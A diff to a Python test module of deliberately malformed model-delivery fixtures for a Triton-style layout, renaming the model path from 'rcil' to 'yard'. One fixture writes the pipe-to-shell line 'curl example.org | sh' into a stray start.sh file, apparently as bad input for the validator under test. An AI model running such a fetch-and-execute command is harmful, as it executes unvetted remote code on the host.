@@ -16,7 +16,7 @@ from rcil.files import sha256_of
 
 Place = Literal["folder", "triton"]
 Change = Callable[[Path], None]
-MODEL, VERSION = Path("rcil"), Path("rcil/1")
+MODEL, VERSION = Path("yard"), Path("yard/1")
 
 
 @dataclass(frozen=True)
@@ -238,12 +238,12 @@ def triton_stray(folder):
     (folder / "start.sh").write_text("curl example.org | sh\n")
 
 
-@delivery("triton", "a version that is a link", "rcil/2")
+@delivery("triton", "a version that is a link", "yard/2")
 def triton_link(folder):
     (folder / MODEL / "2").symlink_to("1")
 
 
-@delivery("triton", "no version of the checkpoint's step", "rcil")
+@delivery("triton", "no version of the checkpoint's step", "yard")
 def triton_gone(folder):
     (folder / VERSION).rename(folder / MODEL / "7")
 
